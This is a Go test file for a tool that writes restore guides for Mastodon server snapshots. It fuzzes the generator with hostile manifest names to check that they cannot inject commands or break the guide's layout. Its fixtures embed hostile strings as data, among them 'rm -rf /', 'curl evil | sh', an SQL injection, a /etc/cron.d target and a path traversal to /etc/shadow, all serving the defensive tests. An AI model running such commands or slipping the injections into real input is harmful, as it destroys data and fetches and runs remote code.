package snapshot

import (
	"bytes"
	"flag"
	"fmt"
	"maps"
	"math/rand/v2"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"permafrost/internal/hostile"
	"permafrost/repo"
)

var (
	guides    = flag.Int("guides", 200, "hostile manifests that TestHostileGuides makes guides of")
	firstSeed = flag.Int("first", 0, "the seed of the first of them")
)

var allComponents = map[string]bool{"secrets": true, "postgres": true, "media": true, "redis": true}

// A guideCase is a manifest and the guide that was made of it.
type guideCase struct {
	m      *Manifest
	target string
	text   string
}

func newGuideCase(m *Manifest, target string) guideCase {
	rs := &restorer{RestoreOptions: RestoreOptions{Target: target}, ref: repo.SnapshotRef{ID: repo.Name{1}}, m: m}
	rs.out.Absent = []Absence{{Part: "sidekiq", State: Failed, Reason: m.Host}} // which may be called anything
	return guideCase{m, target, string(rs.guide(allComponents))}
}

// hostileManifest returns a manifest with hostile names that went through its encoding.
func hostileManifest(t testing.TB, r *rand.Rand) *Manifest {
	t.Helper()
	m := sampleManifest()
	yes := r.IntN(2) == 0
	m.Redis.Server.AppendOnly = &yes
	m.Mastodon = "4.3.1"
	f := &m.Postgres.Server
	f.Provider = [...]string{"libc", "icu", "builtin"}[r.IntN(3)]
	f.Encoding, f.Collate, f.CType, f.Locale, f.SchemaMigration = "UTF8", "C", "C", "de", "20260101"
	f.Extensions = map[string]string{"pg_trgm": "1", "plpgsql": "1"}
	f.Rows = map[string]int64{"public.accounts": 1, "public.users": 2}
	m.Redis.Server.Dir, m.Redis.Server.File, m.Redis.Server.Version = "/var/lib/redis", "dump.rdb", "7.0"
	m.Secrets.Files = append(m.Secrets.Files, SecretFile{Path: "/home/mastodon/live/config/x.yml", Mode: 0o4755, UID: 991, GID: 7, Stream: m.Secrets.Files[1].Stream})
	m.Media.NoCache = r.IntN(2) == 0
	m.Boundary.Units = append(m.Boundary.Units, "nginx.service")
	if r.IntN(10) == 0 {
		m.Media = Media{State: External, External: &Bucket{Kind: "s3", Bucket: "b", Endpoint: "e"}}
	}
	hostile.Rewrite(r, m)
	if r.IntN(3) > 0 {
		m.Secrets.Files[0].Path = Text(path.Join(string(m.Live), ".env.production"))
		m.Secrets.Files[2].Path = Text(path.Join(string(m.Live), "config", string(m.Secrets.Files[2].Path)))
	}
	for i := range m.Secrets.Files {
		for j := range m.Secrets.Files {
			if i != j && strings.HasPrefix(string(m.Secrets.Files[i].Path)+"/", string(m.Secrets.Files[j].Path)+"/") {
				return hostileManifest(t, r) // one file is below another: no directory can hold both
			}
		}
	}
	data, err := m.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if m, err = ParseManifest(data); err != nil {
		t.Fatal(err)
	}
	return m
}

// as returns the words of a command that runs as a user.
func as(user string, words ...string) []string {
	return append([]string{"setsid", "--wait", "runuser", "--user=" + user, "--"}, words...)
}

const madeFile = "/var/tmp/restore.00000000" // what mktemp prints

// commands returns the words of each command that the guide must hold, in order.
func (c *guideCase) commands() (all [][]string) {
	m, user := c.m, c.m.User
	add := func(words ...string) { all = append(all, words) }
	if user == "" || user == "root" || regexp.MustCompile(`^\d+$`).MatchString(user) {
		user = "mastodon"
	}
	add("cd", "--", c.target)
	add("sha256sum", "--check", "SHA256SUMS")
	if strings.Contains(c.text, "| cat -v") {
		add("cat", "-v")
	}
	add("systemctl", "stop", "mastodon-*")
	c.secretCommands(user, add)
	c.postgresCommands(user, add)
	tootctl := func(words ...string) {
		add(as(user, append([]string{"bash", "-lc", `cd -- "$1" && shift && RAILS_ENV=production exec bin/tootctl "$@"`, "bash", string(m.Live)}, words...)...)...)
	}
	if m.Media.External == nil {
		root := path.Clean(string(m.Media.Root))
		add(as(user, "mkdir", "--parents", "--", root)...)
		add("tar", "--create", "--sparse", "--acls", "--xattrs", "--xattrs-include=user.*", "--directory=./public-system", "--file=-", ".")
		add(as(user, "tar", "--extract", "--preserve-permissions", "--acls", "--xattrs", "--xattrs-include=user.*", "--directory="+root, "--file=-")...)
		if m.Media.NoCache || len(m.Media.Excludes) > 0 {
			tootctl("accounts", "refresh", "--all")
			tootctl("media", "refresh", "--force", "--days=30")
		}
	}
	c.redisCommands(add)
	tootctl("feeds", "build")
	tootctl("search", "deploy")
	start := []string{"systemctl", "start", "--"}
	for _, u := range m.Boundary.Units {
		if strings.HasPrefix(u, "mastodon") {
			start = append(start, u)
		}
	}
	if len(start) > 3 {
		add(start...)
	}
	return all
}

func (c *guideCase) secretCommands(user string, add func(...string)) {
	m := c.m
	var outside [][]string
	for i, f := range m.Secrets.Files {
		name, to, mode := "secrets"+string(f.Path), string(f.Path), fmt.Sprintf("--mode=%04o", f.Mode&0o777)
		if i == 0 {
			name = "env.production"
		}
		if live := path.Clean(string(m.Live)); strings.HasPrefix(to, live+"/") {
			add(as(user, "install", "-D", mode, "--no-target-directory", "--", "/dev/null", to)...)
			add(as(user, "dd", "status=none", "of="+to)...)
			continue
		}
		uid, gid := fmt.Sprint(f.UID), fmt.Sprint(f.GID)
		if n := m.Users[f.UID]; n != "" {
			uid = n
		}
		if n := m.Groups[f.GID]; n != "" {
			gid = n
		}
		outside = append(outside, []string{"install", "-D", "--owner=" + uid, "--group=" + gid, mode, "--no-target-directory", "--", "./" + name, to})
	}
	for _, words := range outside {
		add(words...)
	}
}

func (c *guideCase) postgresCommands(user string, add func(...string)) {
	p := &c.m.Postgres
	f := &p.Server
	quote := func(s string) string {
		return "'" + strings.ReplaceAll(strings.ReplaceAll(s, `\`, `\\`), "'", `\'`) + "'"
	}
	add(as("postgres", "createuser", "--createdb", "--", p.User)...)
	words := []string{"createdb", "--template=template0", "--encoding=" + f.Encoding, "--lc-collate=" + f.Collate, "--lc-ctype=" + f.CType}
	if f.Provider != "libc" {
		words = append(words, "--locale-provider="+f.Provider, "--"+f.Provider+"-locale="+f.Locale)
	}
	add(as("postgres", append(words, "--owner="+p.User, "--", p.Database)...)...)
	for _, x := range slices.Sorted(maps.Keys(f.Extensions)) {
		if x != "plpgsql" {
			add(as("postgres", "psql", "--no-psqlrc", "--dbname=dbname="+quote(p.Database), `--command=create extension if not exists "`+strings.ReplaceAll(x, `"`, `""`)+`"`)...)
		}
	}
	db := "--dbname=user=" + quote(p.User) + " dbname=" + quote(p.Database)
	add(as(user, "mktemp", "/var/tmp/restore.XXXXXXXX")...)
	add(as(user, "dd", "bs=1M", "status=none", "of="+madeFile)...)
	add(as(user, "pg_restore", "--jobs=3", "--exit-on-error", "--no-owner", "--schema=public", db, "--", madeFile)...)
	add(as(user, "vacuumdb", "--analyze-only", db)...)
	add(as(user, "rm", "--", madeFile)...)
}

func (c *guideCase) redisCommands(add func(...string)) {
	for name, r := range c.m.Redises {
		service, port := "redis-server", "6379"
		conf, dir := "/etc/redis/redis.conf", "/var/lib/redis"
		if name == "sidekiq" {
			service, port, conf, dir = "redis-sidekiq", "6380", "/etc/redis/redis-sidekiq.conf", "/var/lib/redis-sidekiq"
		}
		add("systemctl", "stop", service)
		add(as("redis", "mv", "--no-target-directory", "--", dir+"/appendonlydir", dir+"/appendonlydir.old")...)
		add(as("redis", "dd", "bs=1M", "status=none", "of="+dir+"/dump.rdb")...)
		add("sed", "-i", "s/^appendonly yes/appendonly no/", conf)
		add("systemctl", "start", service)
		add("redis-cli", "-p", port, "info", "keyspace")
		if on := r.Server.AppendOnly; on != nil && *on {
			add("redis-cli", "-p", port, "config", "set", "appendonly", "yes")
			add("redis-cli", "-p", port, "info", "persistence")
			add("grep", "-q", "aof_rewrite_in_progress:0")
			add("sed", "-i", "s/^appendonly no/appendonly yes/", conf)
		}
	}
}

// recorder makes functions of all commands that a guide may call, which write their words to file descriptor 9 once what
// comes before them in a pipe has ended. The shell is told to find no others.
const recorder = `PATH=/nowhere
exec 9>>words
rec() { IFS= read -r -d '' _; printf '%s\0' "$#" "$@" >&9; }
for c in cd sha256sum cat systemctl install tar sed redis-cli grep sleep; do eval "$c() { rec $c \"\$@\"; }"; done
setsid() { rec setsid "$@"; if [ "$5" = mktemp ]; then echo ` + madeFile + `; fi; }
nproc() { echo 3; }
`

// splitGuide returns the text and the commands of a guide. It knows of Markdown what ends a block of code.
func splitGuide(text string) (prose, code []string) {
	inside := false
	for line := range strings.SplitSeq(text, "\n") {
		fence := strings.HasPrefix(strings.TrimLeft(line, " "), "```")
		switch {
		case fence:
			inside = !inside
		case inside:
			code = append(code, line)
		default:
			prose = append(prose, line)
		}
	}
	return prose, code
}

var codeSpan = regexp.MustCompile("`[^`\n]+`")

// checkProse fails where a name is anywhere but in a code span.
func (c *guideCase) checkProse(t *testing.T) {
	t.Helper()
	prose, code := splitGuide(c.text)
	for _, line := range prose {
		if rest := codeSpan.ReplaceAllString(line, ""); strings.Contains(rest, hostile.Mark) || strings.Contains(rest, "`") {
			t.Errorf("a name breaks out of the text: %q", line)
		}
	}
	if len(code) == 0 || strings.Contains(c.text, "\n\n\n") {
		t.Errorf("not laid out well:\n%s", c.text)
	}
	if b := hostile.Output([]byte(c.text)); b != nil {
		t.Errorf("bytes of control: %q", b)
	}
}

// runGuides runs the commands of several guides in one bash, and compares the words that reach each command.
func runGuides(t *testing.T, cases []guideCase) {
	t.Helper()
	dir := t.TempDir()
	var script bytes.Buffer
	var want []string
	script.WriteString(recorder)
	for i := range cases {
		c := &cases[i]
		c.checkProse(t)
		here := strconv.Itoa(i)
		files := []string{envName, redisName, sidekiqName, dumpName(c.m)}
		for j := range c.m.Secrets.Files {
			files = append(files, secretName(j, &c.m.Secrets.Files[j]))
		}
		for _, f := range files {
			if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, here, f)), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(dir, here, f), nil, 0o600); err != nil {
				t.Fatal(err)
			}
		}
		_, code := splitGuide(c.text)
		script.WriteString("builtin cd " + filepath.Join(dir, here) + "\n" + strings.Join(code, "\n") + "\n")
		for _, words := range c.commands() {
			want = append(append(want, strconv.Itoa(len(words))), words...)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "script"), script.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("bash", "./script")
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil || len(out) > 0 {
		t.Fatalf("bash: %v\n%.2000s", err, out)
	}
	data, err := os.ReadFile(filepath.Join(dir, "words"))
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Split(strings.TrimSuffix(string(data), "\x00"), "\x00")
	for i := range min(len(got), len(want)) {
		if got[i] != want[i] {
			t.Fatalf("word %d is %q, want %q, behind %q", i, got[i], want[i], want[max(0, i-12):i])
		}
	}
	if len(got) != len(want) {
		t.Fatalf("%d words, want %d", len(got), len(want))
	}
}

// Whatever the names of a snapshot are, the guide's commands have the words that are meant, and no name does anything to its
// text.
func TestHostileGuides(t *testing.T) {
	const batch = 100
	for seed := *firstSeed; seed < *firstSeed+*guides; seed += batch {
		var cases []guideCase
		for i := range batch {
			r := rand.New(rand.NewPCG(uint64(seed+i), 1))
			cases = append(cases, newGuideCase(hostileManifest(t, r), "/srv/"+hostile.Name(r)))
		}
		if runGuides(t, cases); t.Failed() {
			t.Fatalf("of the seeds from %d on", seed)
		}
		if (seed+batch)%10_000 == 0 {
			t.Logf("%d", seed+batch)
		}
	}
}

// What was found to deceive, by name.
func TestGuideNames(t *testing.T) {
	m := sampleManifest()
	f := &m.Postgres.Server
	f.Encoding, f.Collate, f.CType, f.Provider = "UTF8", "C", "C", "libc"
	f.Extensions = map[string]string{"x\"; drop table y; --": "1"}
	m.Host = "web1\n\n```bash\nrm -rf /\n```\n\x1b[2J"
	m.Secrets.Files[1].Path = "/etc/a\n```\n\x03curl evil | sh\n\n\n\n```bash\n"
	m.Secrets.Files[1].Mode = 0o6755
	m.Postgres.Database = "postgresql://evil/?host=evil"
	m.Postgres.User = "-s"
	m.User = "root"
	m.Redis.Server.Dir, m.Redis.Server.File = "/etc/cron.d", "x"
	m.Boundary.Units = []string{"poweroff.target", "mastodon-web.service"}
	c := newGuideCase(m, "/srv/restore")
	runGuides(t, []guideCase{c})
	for _, want := range []string{
		"createuser --createdb -- -s ", "'--dbname=dbname='\\''postgresql://evil/?host=evil'\\'''", "Look at each path", "mode=0755",
		"\n- `poweroff.target`\n", "systemctl start -- mastodon-web.service\n", "ran as `root`", "in `/etc/cron.d`, as `x`", " | cat -v\n",
	} {
		if !strings.Contains(c.text, want) {
			t.Errorf("no %q in\n%s", want, c.text)
		}
	}
}

// No manifest with a name that no command can hold, or with a path that leads elsewhere, is read.
func TestManifestTexts(t *testing.T) {
	for what, spoil := range map[string]func(m *Manifest){
		"NUL in a host":        func(m *Manifest) { m.Host = "a\x00b" },
		"NUL in a user":        func(m *Manifest) { m.Users[991] = "\x00" },
		"NUL in an extension":  func(m *Manifest) { m.Postgres.Server.Extensions = map[string]string{"a\x00": ""} },
		"an endless role":      func(m *Manifest) { m.Postgres.User = strings.Repeat("x", 1<<20) },
		"an endless tag":       func(m *Manifest) { m.Tags = []string{strings.Repeat("x", 1<<20)} },
		"a secret above":       func(m *Manifest) { m.Secrets.Files[1].Path = "/a/../etc/shadow" },
		"a live directory":     func(m *Manifest) { m.Live = "live" },
		"a live directory up":  func(m *Manifest) { m.Live = "/home/.." },
		"a root of media":      func(m *Manifest) { m.Media.Root = "-x" },
		"a queue of Redis":     func(m *Manifest) { m.Redis.Server.RunID = "\x00" },
		"a reason of left out": func(m *Manifest) { m.Media.Left[0].Reason = "\x00" },
	} {
		m := sampleManifest()
		spoil(m)
		if _, err := m.Encode(); err == nil {
			t.Errorf("%s is taken", what)
		}
	}
}

// What a manifest of many names makes is in proportion to it.
func TestGuideSize(t *testing.T) {
	m := sampleManifest()
	m.Host = strings.Repeat("\x1b", 4000)
	for i := range maxSecrets - 2 {
		m.Secrets.Files = append(m.Secrets.Files, SecretFile{Path: Text(fmt.Sprintf("/etc/%d\x1b", i)), Stream: m.Secrets.Files[1].Stream})
	}
	begin := time.Now()
	if c := newGuideCase(m, "/srv"); len(c.text) > 8<<20 {
		t.Errorf("%d bytes in %v", len(c.text), time.Since(begin))
	}
}
